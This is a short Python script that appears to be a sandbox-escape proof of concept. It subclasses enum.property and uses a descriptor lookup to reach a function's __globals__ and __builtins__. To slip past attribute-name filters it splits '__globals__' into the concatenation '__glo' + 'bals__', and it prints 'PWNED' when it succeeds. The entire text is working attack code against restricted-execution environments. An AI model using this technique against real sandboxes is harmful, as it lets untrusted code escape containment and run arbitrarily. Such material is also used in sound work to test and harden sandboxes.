import enum


class Part(enum.property):
    pass


class Holder:
    pass


def function():
    pass


part = Part()
part._attr_type = "desc"
part.name = "__glo" + "bals__"
holder = Holder()
holder._value_ = function
print("PWNED", part.__get__(holder)["__builtins__"])
